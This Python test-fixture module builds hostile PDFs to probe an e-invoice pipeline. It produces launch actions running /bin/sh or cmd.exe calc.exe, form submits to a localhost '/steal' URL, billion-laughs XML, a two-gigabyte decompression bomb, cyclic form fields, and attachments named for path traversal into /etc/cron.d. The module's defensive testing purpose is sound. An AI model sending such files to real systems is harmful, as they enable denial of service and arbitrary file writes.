"""PDFs that carry something: locks, actions, forms, attachments."""

import io

from pypdf import PdfReader, PdfWriter

from resilience.hostile_set.pdf_file import one_page, packed, pdf_of, repeated, stream, text_page
from resilience.hostile_set.pdf_structure import INVOICE
from resilience.hostile_set.xmls import billion_laughs, deep, invoice

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"This program cannot be run in DOS mode." * 50


def encrypted(version: str) -> bytes:
    """Asks for a password: 'rc4' (revision 3) or 'aes' (revision 6). Its keys are nobody's."""
    rc4 = b"/V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s>" % (b"5a" * 32, b"a5" * 32)
    aes = (
        b"/V 5 /R 6 /Length 256 /P -44 /O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> /StmF /StdCF /StrF /StdCF "
        b"/CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV3 /Length 32 >> >>"
    ) % (b"5a" * 48, b"a5" * 48, b"11" * 32, b"22" * 32, b"33" * 16)
    identity = b"01" * 16
    entry = rc4 if version == "rc4" else aes
    return pdf_of(
        b"BT ET", trailer=b"/Encrypt << /Filter /Standard %s >> /ID [<%s> <%s>]" % (entry, identity, identity)
    )


def locked(password: str) -> bytes:
    """Truly encrypted; with the empty password anyone may open it."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(one_page(*text_page(INVOICE)))))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    return _bytes_of(writer)


def unknown_lock() -> bytes:
    return pdf_of(b"BT ET", trailer=b"/Encrypt << /Filter /Nobody /V 99 >> /ID [<01> <01>]")


def acting(action: bytes) -> bytes:
    """An action when the file is opened, when the page is, and on a link over the whole page."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << %s >> >>" % action
    page = b"/AA << /O << %s >> >> /Annots [5 0 R]" % action
    return one_page(*text_page(INVOICE), [link], catalog=b"/OpenAction << %s >>" % action, page=page)


JAVASCRIPT = b"/S /JavaScript /JS (while\\(true\\){app.alert\\('x'\\)})"
LAUNCH = b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >>"
LINK = b"/S /URI /URI (http://127.0.0.1:1/steal)"
SUBMIT = b"/S /SubmitForm /F (http://127.0.0.1:1/steal) /Flags 256"
REMOTE = b"/S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\x.pdf) /D [0 /Fit]"


def form_of_xml() -> bytes:
    form = b"/AcroForm << /XFA 5 0 R /Fields [] /NeedAppearances true >> /NeedsRendering true"
    return one_page(*text_page(INVOICE), [packed(billion_laughs())], catalog=form)


def metadata_that_laughs() -> bytes:
    return one_page(
        *text_page(INVOICE), [stream(billion_laughs(), b"/Type /Metadata /Subtype /XML")], catalog=b"/Metadata 5 0 R"
    )


def hundred_thousand_notes() -> bytes:
    return one_page(
        *text_page(INVOICE),
        [b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>"],
        page=b"/Annots [%s]" % (b"5 0 R " * 100_000),
    )


def fields_in_a_ring() -> bytes:
    field = b"<< /FT /Tx /T (a) /V (Total 12.50) /Kids [5 0 R] /Parent 5 0 R /Type /Annot /Subtype /Widget /Rect [0 0 9 9] >>"
    return one_page(*text_page(INVOICE), [field], catalog=b"/AcroForm << /Fields [5 0 R] >>", page=b"/Annots [5 0 R]")


def carrying(**files: bytes) -> bytes:
    """By name; a name may hold what no file name should."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(one_page(*text_page(INVOICE)))))
    for name, data in files.items():
        writer.add_attachment(name, data)
    return _bytes_of(writer)


def carrying_gigabytes() -> bytes:
    """An attachment, named as an e-invoice, that unpacks to two gigabytes."""
    return _embedding(
        stream(repeated(bytes(1 << 20), 1 << 31, 2), b"/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode]")
    )


def carrying_ten_thousand() -> bytes:
    names = b"".join(b"(%05d.xml) 5 0 R " % n for n in range(10_000))
    spec = b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 6 0 R >> >>"
    file = packed(b"<a>" + b"x" * 5_000_000 + b"</a>", b"/Type /EmbeddedFile")
    return one_page(*text_page(INVOICE), [spec, file], catalog=b"/Names << /EmbeddedFiles << /Names [%s] >> >>" % names)


def carrying_itself() -> bytes:
    """A PDF in a PDF in a PDF, eight deep."""
    data = one_page(*text_page(INVOICE))
    for _ in range(8):
        data = carrying(**{"factur-x.xml": data})
    return data


def carrying_paths() -> bytes:
    return carrying(
        **{
            "../../../../tmp/payables-was-here.xml": invoice(),
            "/etc/cron.d/x": EXE,
            "a\0b.xml": b"<a/>",
            "C:\\x.xml": b"<a/>",
        }
    )


def carrying_laughs() -> bytes:
    return carrying(**{"factur-x.xml": billion_laughs(), "xrechnung.xml": deep(100_000)})


def carrying_two_invoices() -> bytes:
    """Two e-invoices that disagree, and a page that disagrees with both."""
    return carrying(**{"factur-x.xml": invoice(b"111.00"), "zugferd-invoice.xml": invoice(b"222.00")})


def _embedding(file: bytes) -> bytes:
    spec = b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 6 0 R >> >>"
    names = b"/Names << /EmbeddedFiles << /Names [(factur-x.xml) 5 0 R] >> >> /AF [5 0 R]"
    return one_page(*text_page(INVOICE), [spec, file], catalog=names)


def _bytes_of(writer: PdfWriter) -> bytes:
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()
